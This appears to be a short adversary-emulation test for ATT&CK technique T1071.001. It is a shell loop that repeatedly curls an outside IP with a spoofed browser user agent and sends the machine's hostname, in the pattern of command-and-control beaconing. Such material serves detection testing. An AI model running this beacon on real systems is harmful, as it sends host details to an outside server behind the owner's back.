# title: A script asks its server for orders, again and again
# technique: T1071.001
# needs: curl

for i in 1 2 3 4 5 6; do curl -s -A 'Mozilla/5.0' "http://192.88.99.7/c?id=$(hostname)&n=$i"; sleep 0.1; done
